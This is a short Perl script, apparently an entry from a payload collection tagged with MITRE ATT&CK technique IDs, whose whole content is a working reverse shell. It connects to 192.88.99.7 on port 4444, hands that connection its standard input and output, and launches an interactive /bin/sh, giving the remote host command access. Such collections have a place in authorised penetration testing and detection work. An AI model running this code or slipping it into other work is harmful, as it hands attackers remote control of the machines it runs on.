#!/usr/bin/env perl
# title: Perl's reverse shell
# technique: T1059.004 T1059
# needs: perl
# short: yes

use Socket;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
connect(S, sockaddr_in(4444, inet_aton("192.88.99.7"))) or die;
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
exec("/bin/sh -i");
